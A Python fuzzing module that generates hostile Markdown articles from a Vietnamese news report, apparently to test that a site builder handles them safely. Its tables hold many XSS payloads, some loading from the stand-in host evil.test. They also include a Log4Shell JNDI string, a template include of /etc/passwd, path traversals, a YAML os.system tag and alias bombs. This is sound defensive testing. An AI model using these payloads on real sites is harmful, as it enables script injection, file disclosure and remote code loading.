"""Hostile articles in any number: mutations of a good report with payloads, broken YAML, odd encodings and deep nesting.

Each article that may be accepted carries a marker at its start and one at its end, so that a build can be asked
whether it is whole.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<form action=//evil.test><input name=q><button>x</button></form>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<div style='background:url(//evil.test/x.png);position:fixed'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.test/p.gif)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](a "onmouseover=alert(1)")',
    "[x](a 'title\" onmouseover=\"alert(1)')",
    '![a" onerror="alert(1)](x.jpg)',
    "{: onclick=alert(1) style=position:fixed}",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p id=cookie><a name=body>x</a>",
    "<table background=//evil.test/x.gif><td>x</table>",
    "<textarea>",
    "<plaintext>",
    "<title>",
    "<xmp>",
    "<!--",
    "<!-- <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<%= 1 %>",
    "{{7*7}} {% include '/etc/passwd' %}",
    "${jndi:ldap://evil.test/x}",
    "]]>",
    "<a/href=//evil.test onclick=alert(1)>x",
    "<img/src=`x`onerror=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)
_FRONT = (
    "title: {payload}",
    "summary: {payload}",
    "author: {payload}",
    "tags: [{payload}]",
    "image: {payload}\nimage_alt: {payload}",
    "slug: {payload}",
    "url: {payload}",
    "save_as: ../{payload}",
    "template: {payload}",
    "__class__: {payload}",
    "metrics:\n  - indicator: {payload}\n    value: {payload}\n    quote: {payload}",
    "metrics: &a [*a]",
    "a: &a [x,x,x]\nb: &b [*a,*a,*a]\ntags: [*b,*b]",
    "tags: {deep}",
    "summary: |\n  {payload}\n title: x",
    "status: {payload}",
    "date: {payload}",
    "ward: {payload}",
    "title: !!python/object/apply:os.system ['true']",
    "? complex\n: {payload}",
    "\ttitle: {payload}",
    'title: "{payload}',
    "title: '{payload}",
    "title: [{payload}",
    "{payload}: x",
    "---",
    "...",
    "%YAML 1.1",
    "period: {payload}",
    "changes:\n  - {payload}",
)
_TRAVERSALS = (
    "../../../../etc/hostname",
    "%2e%2e/%2e%2e/etc/hostname",
    "/etc/hostname",
    "..\\..\\windows\\win.ini",
    "a\x00b",
    "{attach}/../../x",
    "{static}/../../x",
    "index",
    "CON",
    "a" * 300,
    "🎉" * 50,
    "\u202egpj.exe",
    "a\u200bb",
    "ﬁ",
    "İ",
)
_REPEATED = (
    "[",
    "![",
    "[a](",
    "![a](<b",
    "[ a_",
    "`",
    "**a",
    "_a*",
    "<",
    "<a ",
    "&",
    "\\",
    "> ",
    "- ",
    "1. ",
    "|a",
    "~",
    "#",
    "<!--",
    "((",
)
_WORDS = "Thu ngân sách hơn 4 tỷ đồng – đạt 36,26%; chăm lo 627 suất quà; giao 18 thanh niên – đạt 138,5%."


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile article: file name, bytes, and the words at both ends of its body ("" where the bytes lack them)."""

    name: str
    raw: bytes
    first: str
    last: str


def _payload(chance: random.Random) -> str:
    if chance.random() < 0.2:
        return chance.choice(_TRAVERSALS)
    payload = chance.choice(_SCRIPTS)
    if chance.random() < 0.2:
        payload += chance.choice(_SCRIPTS)
    if chance.random() < 0.15:
        at = chance.randrange(len(payload) + 1)
        payload = payload[:at] + chance.choice("\x00\t\n\u200b\u202e'\"<>&\\\x0b\ufeff") + payload[at:]
    return payload


def _body(chance: random.Random, first: str, last: str) -> str:
    kind = chance.random()
    if kind < 0.15:
        middle = chance.choice(_REPEATED) * chance.choice((5, 50, 600, 8000))
    elif kind < 0.2:
        middle = "\n".join("    " * depth + "- a" for depth in range(chance.choice((3, 15, 40, 300))))
    elif kind < 0.8:
        lead = chance.choice(("", "# ", "- ", "> ", "    ", "| ", "`", "```\n", "<div>\n", "<b>"))
        middle = lead + _payload(chance) + chance.choice(("", "\n", "\n\n", " |")) + _payload(chance)
    else:
        middle = _WORDS
    return f"{first}\n\n{_WORDS}\n\n{middle}\n\n{last}\n"


def _encoded(text: str, chance: random.Random) -> bytes:
    kind = chance.random()
    if kind < 0.85:
        return text.encode("utf-8", "surrogatepass")
    if kind < 0.9:
        return text.encode(chance.choice(("utf-16", "utf-16-le", "utf-16-be")), "surrogatepass")
    raw = bytearray(text.encode("utf-8", "surrogatepass"))
    if kind < 0.96:
        for _ in range(chance.choice((1, 3, 20))):
            raw[chance.randrange(len(raw))] = chance.randrange(256)
        return bytes(raw)
    return bytes(raw[: chance.randrange(len(raw))])


def hostile_articles(n: int, seed: int = 0) -> Iterator[Hostile]:
    """`n` hostile articles, the same for the same seed; titles and slugs differ, so that no two share an address."""
    chance = random.Random(seed)
    for number in range(n):
        first, last = f"DAU-{seed}-{number}", f"CUOI-{seed}-{number}"
        front = [f"title: Bài số {number}", "date: 2020-07-08", "category: tin-tuc", f"slug: bai-so-{seed}-{number}"]
        for _ in range(chance.choice((0, 0, 0, 1, 2))):
            line = chance.choice(_FRONT)
            deep = "[" * chance.choice((3, 8, 500)) + "a"
            line = line.replace("{payload}", _payload(chance)).replace("{deep}", deep)
            if chance.random() < 0.5:
                front[chance.randrange(len(front))] = line
            else:
                front.insert(chance.randrange(len(front) + 1), line)
        fence = chance.choice(("---",) * 16 + ("--- ", "----", "—", "--", ""))
        text = "\n".join(["---", *front, fence, "", _body(chance, first, last)])
        raw = _encoded(text, chance)
        kept = [mark if mark.encode() in raw else "" for mark in (first, last)]  # a cut file has no end to find
        yield Hostile(f"bai-{seed}-{number}.md", raw, *kept)
